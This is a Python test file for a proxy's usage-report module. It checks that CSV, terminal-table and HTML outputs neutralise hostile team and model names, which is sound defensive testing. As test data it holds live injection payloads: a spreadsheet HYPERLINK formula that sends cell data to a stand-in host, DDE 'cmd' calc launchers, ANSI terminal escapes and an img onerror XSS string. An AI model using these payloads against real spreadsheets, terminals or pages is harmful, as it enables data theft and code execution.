"""Report outputs are safe with hostile team and model names: CSV, table and HTML."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import orjson
import pytest

from proxy.report.format import csv_safe, printable
from proxy.report.totals import report_main

HOSTILE = (
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "＝1+1",
)


def write_log(
    path: Path, names: list[tuple[str, str]], ts: str = "2026-11-01T10:00:00.000Z"
) -> None:
    with path.open("wb") as f:
        for team, model in names:
            rec = {"ts": ts, "team": team, "model": model, "status": 200, "total_tokens": 5}
            f.write(orjson.dumps(rec) + b"\n")


def report(path: Path, fmt: str, by: list[str], **kw: str) -> str:
    out = io.StringIO()
    assert report_main(str(path), by, fmt=fmt, stdout=out, **kw) == 0  # type: ignore[arg-type]
    return out.getvalue()


def test_csv_cells_never_start_a_formula(tmp_path: Path) -> None:
    log = tmp_path / "u.jsonl"
    write_log(log, [(name, name) for name in HOSTILE])
    rows = list(csv.DictReader(io.StringIO(report(log, "csv", ["team", "model"]), newline="")))
    assert len(rows) == len(HOSTILE)
    for row in rows:
        for column in ("team", "model"):
            assert row[column].startswith("'"), row[column]
            assert row[column][1:] in HOSTILE  # the text is kept, only defused
        assert row["requests"] == "1" and row["total_tokens"] == "5"  # numbers untouched


def test_csv_leaves_numbers_and_plain_text_alone() -> None:
    for value in (-5, -0.25, 3, 1.5, "-12", "+7", "-1.5e3", "research", "gpt-4o", "", None):
        assert csv_safe(value) == value
    for value in ("-", "-x", "+", "=", "@", "\t", "\r", "-1+2", "=1", "@a", "\r\n"):
        assert csv_safe(value) == "'" + value


def test_csv_of_negative_numbers_stays_numeric(tmp_path: Path) -> None:
    log = tmp_path / "u.jsonl"
    write_log(log, [("-1", "m"), ("-2.5", "m")])
    text = report(log, "csv", ["team"])
    assert '\n"-1",' in text and '\n"-2.5",' in text  # quoted text, but no "'" prefix


def test_table_strips_ansi_and_control_characters(tmp_path: Path) -> None:
    log = tmp_path / "u.jsonl"
    nasty = "red\x1b[31mteam\x1b[0m\x1b]0;owned\x07\x1b[2J\x08\x00\u202eevil\x9b"
    write_log(log, [(nasty, "m\x1b[1Am\r\nx")])
    text = report(log, "table", ["team", "model"])
    assert "\x1b" not in text and "\r" not in text and "\x08" not in text
    assert "\u202e" not in text and "\x9b" not in text and "\x00" not in text
    assert "redteamevil" in text and "mmx" in text
    assert len(text.splitlines()) == 5  # header, rule, one row, rule, total: no injected lines
    assert printable("plain name") == "plain name"


@pytest.mark.parametrize("field", ["team", "model", "ts", "error"])
def test_html_escapes_every_client_chosen_string(tmp_path: Path, field: str) -> None:
    log, page = tmp_path / "u.jsonl", tmp_path / "r.html"
    evil = "<img src=x onerror=alert(1)>"
    rec = {
        "ts": "2026-11-01T10:00:00.000Z",
        "team": "t",
        "model": "m",
        "status": 500,
        "error": "upstream_error",
        "total_tokens": 5,
        "utilization": 0.5,
        "quota_used": 10,
        "quota_limit": 100,
        "quota_level": "normal",
    }
    rec[field] = "2026-" + evil if field == "ts" else evil
    log.write_bytes(orjson.dumps(rec) + b"\n")
    report(log, "table", ["team", "model", "day"], html=str(page))
    html = page.read_text()
    assert "<img" not in html and "&lt;img" in html
